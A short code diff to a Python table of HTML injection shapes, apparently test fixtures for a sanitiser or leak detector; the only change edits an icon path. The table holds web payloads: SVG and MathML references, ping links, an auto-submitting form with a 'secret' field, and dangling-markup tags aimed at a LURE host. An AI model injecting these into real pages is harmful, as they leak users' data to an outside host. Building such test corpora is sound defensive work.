@@ -36,7 +36,7 @@ SHAPES = {
     "svg-cursor-tref": f"<svg><cursor xlink:href={LURE} /><text><tref xlink:href={LURE} /></text></svg>",
     "math-image": f"<math><mglyph src={LURE}></mglyph><mi mathbackground='url({LURE})'>x</mi></math>",
     "anchor-ping": f"<a ping={LURE} href=https://example.com>x</a><area ping={LURE} href=x>",
-    "image-map": f"<img usemap=#m src=/web/icon.svg><map name=m><area href={LURE} coords=0,0,9,9></map>",
+    "image-map": f"<img usemap=#m src=/web/0/icon.svg><map name=m><area href={LURE} coords=0,0,9,9></map>",
     "form-autosubmit": f"<form action={LURE} id=g><input name=q value=secret></form><input form=g autofocus type=submit>",
     "form-dangling": f"<form action={LURE}><textarea name=rest>",
     "img-dangling": f"<img src='{LURE}?",
